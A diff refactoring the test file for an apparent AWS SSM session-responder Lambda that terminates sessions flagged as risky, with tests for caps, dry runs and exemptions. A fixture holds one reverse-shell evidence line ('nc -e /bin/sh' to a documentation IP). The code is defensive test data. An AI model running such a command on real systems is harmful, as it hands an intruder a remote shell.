@@ -1,61 +1,31 @@
-import { CreateTableCommand } from '@aws-sdk/client-dynamodb';
 import { EventBridgeClient, PutEventsCommand } from '@aws-sdk/client-eventbridge';
 import { DescribeSessionsCommand, SSMClient, TerminateSessionCommand } from '@aws-sdk/client-ssm';
 import { mockClient } from 'aws-sdk-client-mock';
-import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
+import { beforeEach, describe, expect, it, vi } from 'vitest';
 import { readEnv } from '../../functions/commons/env';
 import { localContext } from '../../functions/commons/local';
 import type { Finding } from '../../shared/model/finding';
-import { startDynalite } from '../helpers/dynalite';
+import { reverseShellFinding } from '../format/findings';
+import { useDynalite } from '../helpers/dynalite';
+import { useLambdaEnv } from '../helpers/lambda-env';
 
 const ssm = mockClient(SSMClient);
 const eb = mockClient(EventBridgeClient);
-let db: Awaited<ReturnType<typeof startDynalite>>;
-let output = '';
+const db = useDynalite('responder-test');
+const output = useLambdaEnv('us-east-1', { BUS_NAME: 'ssm-sentinel-findings' });
 
-beforeAll(async () => {
-  db = await startDynalite('responder-test');
-  vi.stubEnv('AWS_REGION', 'us-east-1');
-  vi.stubEnv('AWS_ACCESS_KEY_ID', 'test');
-  vi.stubEnv('AWS_SECRET_ACCESS_KEY', 'test');
-  vi.stubEnv('AWS_ENDPOINT_URL_DYNAMODB', db.endpoint);
-  vi.stubEnv('BUS_NAME', 'ssm-sentinel-findings');
-  for (const stream of [process.stdout, process.stderr]) {
-    vi.spyOn(stream, 'write').mockImplementation((chunk) => {
-      output += String(chunk);
-      return true;
-    });
-  }
-});
-afterAll(async () => {
-  vi.restoreAllMocks();
-  vi.unstubAllEnvs();
-  await db.stop();
-});
 beforeEach(() => {
   ssm.reset();
   eb.reset();
-  output = '';
   ssm.on(DescribeSessionsCommand, { State: 'Active' }).resolves({ Sessions: [] });
   ssm.on(DescribeSessionsCommand, { State: 'History' }).resolves({ Sessions: [] });
   ssm.on(TerminateSessionCommand).resolves({});
   eb.on(PutEventsCommand).resolves({ FailedEntryCount: 0, Entries: [{ EventId: 'e' }] });
 });
 
-let tables = 0;
-
 /** Load the handler afresh, on an empty table, with this auto-terminate configuration (read at start-up). */
 async function loadHandler(autoTerminate: Record<string, unknown>) {
-  const tableName = `responder-${++tables}`;
-  await db.client.send(
-    new CreateTableCommand({
-      TableName: tableName,
-      AttributeDefinitions: [{ AttributeName: 'pk', AttributeType: 'S' }],
-      KeySchema: [{ AttributeName: 'pk', KeyType: 'HASH' }],
-      BillingMode: 'PAY_PER_REQUEST',
-    }),
-  );
-  vi.stubEnv('TABLE_NAME', tableName);
+  await db.freshTable('responder');
   vi.stubEnv('SENTINEL_CONFIG', JSON.stringify({ autoTerminate }));
   vi.resetModules();
   const { handler } = await import('../../functions/responder/handler');
@@ -63,15 +33,8 @@ async function loadHandler(autoTerminate: Record<string, unknown>) {
 }
 
 function findingEvent(sessionId: string, extra: Partial<Finding> = {}) {
-  const detail: Finding = {
+  const detail = reverseShellFinding({
     id: `f-${sessionId}`,
-    ruleId: 'transcript.reverse-shell',
-    category: 'risky-command',
-    severity: 'CRITICAL',
-    title: 'Reverse shell',
-    source: 'transcript',
-    time: '2026-03-01T12:34:00Z',
-    account: '111122223333',
     region: 'us-east-1',
     sessionId,
     target: 'i-0e57975fb4405c6a9',
@@ -79,10 +42,9 @@ function findingEvent(sessionId: string, extra: Partial<Finding> = {}) {
       arn: 'arn:aws:sts::111122223333:assumed-role/ContractorAccess/mallory',
       type: 'AssumedRole',
     },
-    reasons: [],
     evidence: [{ kind: 'REVERSE_SHELL', excerpt: 'nc -e /bin/sh 203.0.113.9 ****' }],
     ...extra,
-  };
+  });
   return {
     version: '0',
     id: 'evt-1',
@@ -125,7 +87,7 @@ describe('responder handler', () => {
         sessionId: 'mallory-g7ob4wkz5r5f6ky4ng257scvtx',
       },
     });
-    expect(output).toContain('"Terminations"');
+    expect(output.text()).toContain('"Terminations"');
   });
 
   it('delivered concurrently, still terminates once', async () => {
@@ -144,7 +106,7 @@ describe('responder handler', () => {
     await run(findingEvent('oncall-0123456789abcdef0', { principal }));
     expect(terminateInputs()).toEqual([]);
     expect(published()).toEqual([]);
-    expect(output).toContain('"outcome":"exempt"');
+    expect(output.text()).toContain('"outcome":"exempt"');
   });
 
   it('dry-run calls nothing but DescribeSessions and reports what it would have done', async () => {
@@ -152,14 +114,14 @@ describe('responder handler', () => {
     await run(findingEvent('dry-0123456789abcdef0'));
     expect(terminateInputs()).toEqual([]);
     expect(published().map((e) => e.Detail.title)).toEqual(['Session would have been terminated (dry run)']);
-    expect(output).toContain('"TerminationsDryRun"');
+    expect(output.text()).toContain('"TerminationsDryRun"');
   });
 
   it('stops at the hourly cap', async () => {
     const run = await loadHandler({ enabled: true, dryRun: false, maxPerHour: 2 });
     for (const id of ['cap-a', 'cap-b', 'cap-c', 'cap-d']) await run(findingEvent(`${id}-0123456789abcdef0`));
     expect(terminateInputs()).toHaveLength(2);
-    expect(output).toContain('"outcome":"capped"');
+    expect(output.text()).toContain('"outcome":"capped"');
   });
 
   it('skips a session DescribeSessions reports as ended', async () => {
@@ -169,7 +131,7 @@ describe('responder handler', () => {
     });
     await run(findingEvent('gone-0123456789abcdef0'));
     expect(terminateInputs()).toEqual([]);
-    expect(output).toContain('"outcome":"already-ended"');
+    expect(output.text()).toContain('"outcome":"already-ended"');
   });
 
   it('does nothing while disabled', async () => {
@@ -184,8 +146,8 @@ describe('responder handler', () => {
     const bad = findingEvent('bad-0123456789abcdef0', { severity: 'SEVERE' as Finding['severity'] });
     bad.detail.evidence = [{ kind: 'PASSWORD', excerpt: 'Sup3rS3cretValue!' }];
     await expect(run(bad)).rejects.toThrow('malformed finding event: detail.severity:');
-    expect(output).toContain('"Failed"');
-    expect(output).not.toContain('Sup3rS3cretValue!');
+    expect(output.text()).toContain('"Failed"');
+    expect(output.text()).not.toContain('Sup3rS3cretValue!');
     expect(terminateInputs()).toEqual([]);
   });
 
